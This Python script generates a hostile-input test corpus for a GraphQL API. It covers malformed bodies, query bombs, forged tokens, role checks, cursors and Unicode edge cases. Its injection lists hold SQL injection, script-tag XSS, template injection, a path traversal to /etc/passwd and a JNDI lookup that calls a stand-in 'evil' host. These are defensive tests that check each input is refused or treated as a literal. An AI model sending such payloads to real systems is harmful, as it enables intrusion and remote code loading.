#!/usr/bin/env python3
"""Generates security.ndjson, the hostile-input corpus of the security machinery.

Each line is one request that HostileInputIT sends over real HTTP:
  id        unique name
  category  what kind of abuse
  method    GET, POST, PUT ...
  path      default /graphql (GET carries its query string here)
  headers   extra headers (Content-Type defaults to application/json for POST)
  token     none | forged | expired | wrong-audience | malformed | empty | unknown-role
            | apikey-unknown | apikey-malformed | role:ROLE[:DEPT]
  body      the raw body, a string (so malformed JSON is possible) or null;
            {{REPEAT:x:N}} expands to N times x, to keep huge bodies out of the file
  status    expected HTTP status (an int) or class ("4xx")
  code      expected extensions.code of the first error, or null when the request must succeed
            without errors (e.g. injection text that has to be treated as a literal)

round2.ndjson (generate_round2.py) adds paths other than /graphql with {{SUBJECT}}/{{SCOPE}}
fixtures, raw bytes ({{HEX:..}}), refusals answered in a mutation payload ("payload") and the
no-exp token kind.

Feature teams add their own file next to this one (hostile/<feature>.ndjson, same format, by hand
or by a generator of their own); the runner reads every *.ndjson here. Re-run: python3 generate.py
"""
import itertools
import json
import os

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "security.ndjson")
entries = []


def add(category, body=None, status=400, code=None, method="POST", path="/graphql", headers=None, token="none", name=None):
    entries.append({
        "id": f"{category}-{len([e for e in entries if e['category'] == category]) + 1:03d}" + (f"-{name}" if name else ""),
        "category": category, "method": method, "path": path, "headers": headers or {}, "token": token,
        "body": body, "status": status, "code": code})


def gql(query, variables=None, operation=None):
    body = {"query": query}
    if variables is not None:
        body["variables"] = variables
    if operation is not None:
        body["operationName"] = operation
    text = json.dumps(body, ensure_ascii=False)
    # Unpaired surrogates cannot be sent as UTF-8: they go as \ud800 escapes, the way a hostile
    # client would write them. Everything else goes as raw UTF-8.
    if any(0xD800 <= ord(c) <= 0xDFFF for c in text):
        return json.dumps(body, ensure_ascii=True)
    return text


ADMIN = "role:PLATFORM_ADMIN"
OPERATOR = "role:DEPT_OPERATOR:SCJG"
CREATE = "mutation($in: CreateApiKeyInput!) { createApiKey(input: $in) { secret apiKey { id } errors { code } } }"
AUDIT = "query($f: AuditFilter, $n: Int, $a: String) { auditLog(filter: $f, first: $n, after: $a) { totalCount edges { cursor } } }"

# --- malformed JSON and bodies -------------------------------------------------------------------
for body in ["{", "}", "{\"query\":", "{\"query\": \"{ viewer { id } }\",}", "{'query': '{ viewer { id } }'}",
             "{\"query\": \"{ viewer { id } }\"} trailing", "{\"query\": \"{ viewer { id } }\"}}", "nul", "tru",
             "{\"query\": NaN}", "{\"query\": \"{ viewer { id } }\" /* c */}", "{\"query\" \"x\"}",
             "{\"query\": \"a\u0001b\"", "\u0000", "{\"query\": \"{ viewer { id } }\", \"query\": \"{ viewer { name } }\"}",
             "{\"query\": \"\\x41\"}", "{\"query\": \"\\u12\"}", "{\"a\":" * 50, "<query>{ viewer { id } }</query>",
             "query=%7B%20viewer%20%7B%20id%20%7D%20%7D", "{\"query\": 01}", "{\"query\": \"{ viewer { id } }\" \"x\": 1}",
             "--boundary\r\nContent-Disposition: form-data\r\n\r\n{}", "{\"query\": \"\\\"}", "[", "]", "{\"\": }"]:
    add("malformed-json", body, 400, "INVALID_REQUEST")
for body in ["", " ", "\n\n", "null", "0", "\"{ viewer { id } }\"", "true", "{}", "{\"variables\": {}}",
             "{\"qeury\": \"{ viewer { id } }\"}", "{\"query\": null}", "{\"query\": \"\"}", "{\"query\": \"   \"}"]:
    add("empty-or-no-query", body, 400, "INVALID_REQUEST")

# --- wrong parameter types -----------------------------------------------------------------------
for field, values in {"query": [1, 1.5, True, False, [], ["{ viewer { id } }"], {"q": 1}],
                      "variables": ["x", "{}", 1, True, [], [1]],
                      "operationName": [1, True, [], {"a": 1}],
                      "extensions": ["x", 1, False, ["a"]]}.items():
    for value in values:
        body = {"query": "{ viewer { id } }", field: value}
        add("parameter-types", json.dumps(body), 400, "INVALID_REQUEST", name=field)

# --- batch abuse ---------------------------------------------------------------------------------
one = {"query": "{ viewer { id } }"}
for n in [0, 1, 2, 10, 100, 1000]:
    add("batch", json.dumps([one] * n), 400, "BATCH_NOT_SUPPORTED", name=str(n))
add("batch", json.dumps([[one]]), 400, "BATCH_NOT_SUPPORTED", name="nested")
add("batch", json.dumps([one, "x", 1, None]), 400, "BATCH_NOT_SUPPORTED", name="mixed")
add("batch", json.dumps([{"query": "mutation { ping }"}] * 50), 400, "BATCH_NOT_SUPPORTED", name="mutations", token=ADMIN)

# --- media types and methods ---------------------------------------------------------------------
for ctype in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
              "application/json; charset=iso-8859-1", "application/jsonp", "text/json", "*/*", "application/",
              "garbage", "application/graphql-response+json"]:
    add("content-type", json.dumps(one), 415, "UNSUPPORTED_MEDIA_TYPE", headers={"Content-Type": ctype}, name=ctype.split(";")[0])
add("content-type", json.dumps(one), 415, "UNSUPPORTED_MEDIA_TYPE", headers={"Content-Type": ""}, name="missing")
for method in ["PUT", "DELETE", "PATCH"]:
    add("method", json.dumps(one), 405, "METHOD_NOT_ALLOWED", method=method)
for query in ["mutation { ping }", "mutation M { ping } query Q { viewer { id } }", "subscription { viewer }"]:
    from urllib.parse import quote
    # Without operationName a two-operation document runs nothing: a validation error, still never a write.
    two = " query " in query
    add("get-mutation", None, 200 if two else 405, "GRAPHQL_VALIDATION_FAILED" if two else "METHOD_NOT_ALLOWED", method="GET",
        path="/graphql?query=" + quote(query), token=ADMIN)
add("get-mutation", None, 405, "METHOD_NOT_ALLOWED", method="GET",
    path="/graphql?operationName=M&query=" + quote("mutation M { ping } query Q { viewer { id } }"), token=ADMIN, name="named")
for path in ["/graphql", "/graphql?query=", "/graphql?query=%20", "/graphql?variables=%7B%7D"]:
    add("get-without-query", None, 400, "INVALID_REQUEST", method="GET", path=path)
for path in ["/graphql?query=%7Bviewer%7Bid%7D%7D&variables=x", "/graphql?query=%7Bviewer%7Bid%7D%7D&variables=%5B%5D",
             "/graphql?query=%7Bviewer%7Bid%7D%7D&extensions=1"]:
    add("get-bad-parameters", None, 400, "INVALID_REQUEST", method="GET", path=path)

# --- size ----------------------------------------------------------------------------------------
add("size", '{"query":"{ viewer { id } }","variables":{"x":"{{REPEAT:a:1048576}}"}}', 413, "REQUEST_TOO_LARGE", name="1MB-variable")
add("size", '{"query":"{ viewer { id } }  {{REPEAT: :1100000}}"}', 413, "REQUEST_TOO_LARGE", name="1MB-whitespace")
add("size", '{"query":"{{REPEAT:{ :600000}}"}', 413, "REQUEST_TOO_LARGE", name="1MB-braces")
add("size", '{"query":"mutation($in: CreateApiKeyInput!) { createApiKey(input: $in) { secret } }","variables":{"in":{"name":"{{REPEAT:名:300000}}","department":"SCJG","scopes":["stats:read"]}}}',
    200, "BAD_USER_INPUT", token=ADMIN, name="900KB-name")
add("size", '{"query":"{ viewer { id } }","variables":{"x":"{{REPEAT:a:900000}}"}}', 200, None, name="900KB-unused-variable")

# --- GraphQL syntax ------------------------------------------------------------------------------
for query in ["{", "}", "{ viewer { id }", "{ viewer { id } } }", "query {", "mutation", "{ viewer(: 1) { id } }",
              "{ viewer { id } } fragment", "query Q($x: ) { viewer { id } }", "{ viewer { ... } }", "{ viewer { id @ } }",
              "{ \"viewer\" }", "{ 1viewer }", "{ viewer { id } } query", "{ viewer { id: } }",
              "{ viewer { id } } {", "query Q(x: Int) { viewer { id } }", "{ viewer { id } } \u0000",
              "'; DROP TABLE subjects; --", "<script>alert(1)</script>", "${jndi:ldap://evil/a}"]:
    add("graphql-syntax", gql(query), 200, "GRAPHQL_PARSE_FAILED")
    add("graphql-syntax", gql(query), 400, "GRAPHQL_PARSE_FAILED", headers={"Accept": "application/graphql-response+json"}, name="modern")

# --- validation: unknown fields, arguments, enum values, wrong literal types -----------------------
for query in ["{ viewer { password } }", "{ viewer { id secret } }", "{ nosuchquery }", "{ viewer(id: 1) { id } }",
              "{ viewer }", "{ viewer { roles { name } } }", "mutation { ping { id } }", "mutation { nosuch }",
              "{ apiKeys(department: 1) { id } }", "{ apiKeys(dept: \"SCJG\") { id } }", "{ apiKeys { secret hash } }",
              "{ auditLog(first: \"10\") { totalCount } }", "{ auditLog(first: 1.5) { totalCount } }",
              "{ auditLog(first: 99999999999) { totalCount } }", "{ auditLog(filter: {nope: 1}) { totalCount } }",
              "{ auditLog(filter: {from: 5}) { totalCount } }", "{ auditLog(after: 5) { totalCount } }",
              "mutation { revokeApiKey }", "mutation { createApiKey(input: {name: \"x\"}) { secret } }",
              "mutation { createApiKey(input: {name: \"x\", department: \"SCJG\", scopes: \"stats:read\", extra: 1}) { secret } }",
              "{ __type(name: \"Role\") { enumValues(includeDeprecated: MAYBE) { name } } }",
              "{ __type(name: \"Role\") { enumValues(includeDeprecated: TRUE) { name } } }",
              "{ viewer { roles(filter: PLATFORM_ADMIN) } }", "query($r: Role) { viewer { id } }",
              "query Q { viewer { id } } query Q { viewer { name } }", "query A { viewer { id } } query B { viewer { id } }",
              "{ viewer { ...F } }", "fragment F on Viewer { id } { viewer { id } }", "{ viewer { ... on Query { viewer { id } } } }",
              "query($x: Int) { viewer { id } }", "{ viewer { id @skip } }", "{ viewer { id @nosuch } }",
              "{ viewer { id @skip(if: true) @skip(if: false) } }", "subscription { viewer { id } }"]:
    add("graphql-validation", gql(query), 200, "GRAPHQL_VALIDATION_FAILED", token=ADMIN)

# --- variables of the wrong type and unknown enum values ------------------------------------------
wrong_vars = [("query($n: Int) { auditLog(first: $n) { totalCount } }", {"n": v}) for v in ["ten", 1.5, True, [1], {"a": 1}, 9999999999, "１０"]]
wrong_vars += [("query($r: Role!) { viewer { id } }", {"r": v}) for v in ["SUPERUSER", "platform_admin", 1, None, "", "PLATFORM_ADMIN\u0000"]]
wrong_vars += [("query($d: String) { apiKeys(department: $d) { id } }", {"d": v}) for v in [1, True, ["SCJG"], {"a": 1}]]
wrong_vars += [(CREATE, {"in": v}) for v in [None, "x", 1, [], {"name": "x"},                                              {"name": 1, "department": "SCJG", "scopes": ["stats:read"]},
                                             {"name": "x", "department": "SCJG", "scopes": [None]},
                                             {"name": "x", "department": "SCJG", "scopes": ["stats:read"], "hash": "x"}]]
wrong_vars += [(AUDIT, {"f": v}) for v in [{"from": "yesterday"}, {"from": "2026-13-45T99:00:00Z"}, {"to": 1},
                                          {"unknown": 1}, "principal"]]
wrong_vars += [("mutation($id: ID!) { revokeApiKey(id: $id) { apiKey { id } } }", {"id": None})]
for query, variables in wrong_vars:
    add("variable-types", gql(query, variables), 200, "GRAPHQL_VALIDATION_FAILED", token=ADMIN)
# Values the engine coerces (a single value into a list, anything into an ID) reach the resolver,
# which refuses them as input.
add("variable-types", gql(CREATE, {"in": {"name": "x", "department": "SCJG", "scopes": "stats:read:x"}}), 200, "BAD_USER_INPUT",
    token=ADMIN, name="scope-as-string")
for v in [1.5, [], {"a": 1}, True]:
    add("variable-types", gql("mutation($id: ID!) { revokeApiKey(id: $id) { apiKey { id } } }", {"id": v}), 200, "BAD_USER_INPUT",
        token=ADMIN, name="id")
add("variable-types", gql(AUDIT, {"f": {"actions": "x"}}), 200, None, token=ADMIN, name="action-as-string")

# --- depth, aliases, field counts, fragment bombs ------------------------------------------------
def nest(depth):
    inner = "name"
    for _ in range(depth):
        inner = "ofType { " + inner + " }"
    return "{ __schema { types { fields { type { " + inner + " } } } } }"

# nest(10) is as deep as the standard introspection query of graphql-js, which is allowed (system/DepthLimit)
for depth in [11, 12, 20, 40, 100]:
    add("depth", gql(nest(depth)), 200, "QUERY_TOO_COMPLEX", name=str(depth))
for depth in [20, 60]:
    add("depth", gql("{ " + "viewer { " * depth + "id" + " }" * depth + " }"), 200, "GRAPHQL_VALIDATION_FAILED", name="viewer-" + str(depth))
# Beyond the parser's own nesting guard (500 grammar rules) the document is refused as unparsable.
for depth in [200, 400, 5000]:
    add("depth", gql("{ " + "viewer { " * depth + "id" + " }" * depth + " }"), 200, "GRAPHQL_PARSE_FAILED", name="viewer-" + str(depth))
for n in [31, 50, 100, 1000]:
    add("alias-bomb", gql("{ " + " ".join(f"a{i}: viewer {{ id }}" for i in range(n)) + " }"), 200, "QUERY_TOO_COMPLEX", name=str(n))
    add("alias-bomb", gql("mutation { " + " ".join(f"p{i}: ping" for i in range(n)) + " }"), 200, "QUERY_TOO_COMPLEX", token=ADMIN, name="ping-" + str(n))
for n in [501, 2000]:
    add("field-bomb", gql("{ viewer { " + " ".join(["id"] * n) + " } }"), 200, "QUERY_TOO_COMPLEX", name=str(n))
for levels in [10, 20, 40]:
    frags = " ".join(f"fragment F{i} on Viewer {{ ...F{i + 1} ...F{i + 1} }}" for i in range(levels))
    add("fragment-bomb", gql("{ viewer { ...F0 } } " + frags + f" fragment F{levels} on Viewer {{ id name roles }}"), 200,
        "QUERY_TOO_COMPLEX", name=str(levels))
    frags = " ".join(f"fragment F{i} on Viewer {{ a: id ...F{i + 1} b: name ...F{i + 1} }}" for i in range(levels))
    add("fragment-bomb", gql("{ viewer { ...F0 } } " + frags + f" fragment F{levels} on Viewer {{ c: id }}"), 200,
        "QUERY_TOO_COMPLEX", name="aliased-" + str(levels))
for query in ["{ viewer { ...A } } fragment A on Viewer { ...A }",
              "{ viewer { ...A } } fragment A on Viewer { id ...B } fragment B on Viewer { ...A }",
              "{ viewer { ...A } } fragment A on Viewer { ...B } fragment B on Viewer { ...C } fragment C on Viewer { ...A }",
              "{ viewer { ...A ...B } } fragment A on Viewer { ...B ...B } fragment B on Viewer { ...A ...A }"]:
    add("fragment-cycle", gql(query), 200, "GRAPHQL_VALIDATION_FAILED")

# --- injection attempts in text inputs: refused, or treated as a literal -------------------------
INJECTIONS = [
    '{"query":{"match_all":{}}}', '{"script":{"source":"ctx._source.x=1"}}', '*:*', 'name:* OR 1:1', '*', '?', '\\*',
    'a OR b AND NOT c', '(a', 'a~2', '/.*/', '[* TO *]', '{!lucene}x', '"; DROP TABLE x; --', "' OR '1'='1",
    '${jndi:ldap://x/a}', '#{7*7}', '{{7*7}}', "doc['x'].value", 'Math.random()', '.*(a+)+$', '(a|a)*b', '\\u0000',
    '../../etc/passwd', '<script>alert(1)</script>', 'SCJG" OR "1"="1', 'SCJG\\', '_all', '_id:1', '+-&&||!(){}[]^"~*?:\\/',
]
for text in INJECTIONS:
    # As a filter value: must be a literal that matches nothing, and never an error.
    add("injection-filter", gql(AUDIT, {"f": {"principal": text, "target": text, "actions": [text]}, "n": 5}), 200, None,
        token=ADMIN)
    add("injection-filter", gql("query($d: String) { apiKeys(department: $d) { id } }", {"d": text}), 200, None, token=ADMIN,
        name="apiKeys")
    # As a mutation input: refused by the role, or by validation; nothing is written.
    add("injection-input", gql(CREATE, {"in": {"name": text, "department": "SCJG", "scopes": ["stats:read"]}}), 200,
        "FORBIDDEN", token=OPERATOR)
    add("injection-input", gql(CREATE, {"in": {"name": "x", "department": text, "scopes": ["stats:read"]}}), 200,
        "BAD_USER_INPUT", token=ADMIN, name="department")
    add("injection-input", gql(CREATE, {"in": {"name": "x", "department": "SCJG", "scopes": [text]}}), 200,
        "BAD_USER_INPUT", token=ADMIN, name="scope")
    add("injection-input", gql("mutation($id: ID!) { revokeApiKey(id: $id) { apiKey { id } } }", {"id": text}), 200,
        "BAD_USER_INPUT", token=ADMIN, name="revoke")

# --- tokens --------------------------------------------------------------------------------------
for token, (query, name) in itertools.product(
        ["forged", "expired", "wrong-audience", "malformed", "empty", "unknown-role", "alg-none", "apikey-unknown", "apikey-malformed"],
        [("{ viewer { id } }", "viewer"), ("mutation { ping }", "ping"), (CREATE, "create"), ("{ apiKeys { id } }", "apiKeys")]):
    variables = {"in": {"name": "x", "department": "SCJG", "scopes": ["stats:read"]}} if name == "create" else None
    add("token", gql(query, variables), 401, "UNAUTHENTICATED", token=token, name=f"{token}-{name}")
for token in ["none", "role:DEPT_OPERATOR:SCJG", "role:AGENCY_REVIEWER:SCJG", "role:INSPECTOR:SCJG", "role:AUTOMATION:SCJG"]:
    add("token-role", gql(CREATE, {"in": {"name": "x", "department": "SCJG", "scopes": ["stats:read"]}}), 200, "FORBIDDEN",
        token=token, name=token.split(":")[1] if ":" in token else "anonymous")
    add("token-role", gql("{ auditLog { totalCount } }"), 200, "FORBIDDEN", token=token, name="audit")
    add("token-role", gql("mutation { revokeApiKey(id: \"ak_0000000000000000\") { apiKey { id } } }"), 200, "FORBIDDEN", token=token,
        name="revoke")
add("token-role", gql(CREATE, {"in": {"name": "x", "department": "WSJK", "scopes": ["stats:read"]}}), 200, "FORBIDDEN",
    token="role:DEPT_ADMIN:SCJG", name="other-department")
add("token-role", gql("{ auditLog(filter: {department: \"WSJK\"}) { totalCount } }"), 200, "FORBIDDEN",
    token="role:DEPT_ADMIN:SCJG", name="other-department-audit")
add("token-role", gql("mutation { ping }"), 200, "FORBIDDEN", token="none", name="anonymous-ping")

# --- cursors -------------------------------------------------------------------------------------
for cursor in ["x", "", ".", "a.b", "eyJwIjoiIiwiYSI6WzEsMl0sInEiOiJ4In0.AAAA", "eyJwIjoiIiwiYSI6WzEsMl0sInEiOiJ4In0",
               "{{REPEAT:A:9000}}.x", "%00", "null", "../../", "\u202eedoc", "\ud800", "ＡＢＣ.ＤＥＦ",
               "eyJhIjpbIjIwMjYtMDEtMDFUMDA6MDA6MDBaIiwiMSJdfQ.c2lnbmF0dXJl"]:
    add("cursor", gql(AUDIT, {"a": cursor, "n": 5}), 200, "INVALID_CURSOR", token=ADMIN)

# --- page sizes ----------------------------------------------------------------------------------
for size in [-1, -2, -2147483648, 201, 1000, 100000, 2147483647]:
    add("page-size", gql(AUDIT, {"n": size}), 200, "BAD_USER_INPUT", token=ADMIN, name=str(size))
    add("page-size", gql("{ auditLog(first: %d) { totalCount } }" % size), 200, "BAD_USER_INPUT", token=ADMIN, name="literal" + str(size))

# --- Unicode edge cases --------------------------------------------------------------------------
UNICODE = ["\u0000", "a\u0000b", "\u200f\u202eSCJG", "\ud800", "\udfff", "\ud800\ud800", "ＳＣＪＧ", "９１３３０１０９ＭＡ２ＧＸＸＸＸＸ",
           "\ufeffSCJG", "S\u0301CJG", "\u0085", "\u2028", "😀" * 10, "\u00a0SCJG", "SCJG\u0000"]
for text in UNICODE:
    add("unicode", gql(CREATE, {"in": {"name": "x", "department": text, "scopes": ["stats:read"]}}), 200, "BAD_USER_INPUT",
        token=ADMIN, name="department")
    add("unicode", gql("mutation($id: ID!) { revokeApiKey(id: $id) { apiKey { id } } }", {"id": "ak_" + text}), 200,
        "BAD_USER_INPUT", token=ADMIN, name="revoke")
for name in ["\u0000", "a\u0000b", "\u0007bell", "line\nbreak", "\u0085", ""]:
    add("unicode", gql(CREATE, {"in": {"name": name, "department": "SCJG", "scopes": ["stats:read"]}}), 200, "BAD_USER_INPUT",
        token=ADMIN, name="name")

with open(OUT, "w", encoding="utf-8") as out:
    for entry in entries:
        # ensure_ascii keeps unpaired surrogates and NULs as \\u escapes, so the file stays valid UTF-8.
        out.write(json.dumps(entry, ensure_ascii=True) + "\n")
print(f"{len(entries)} entries -> {OUT}")
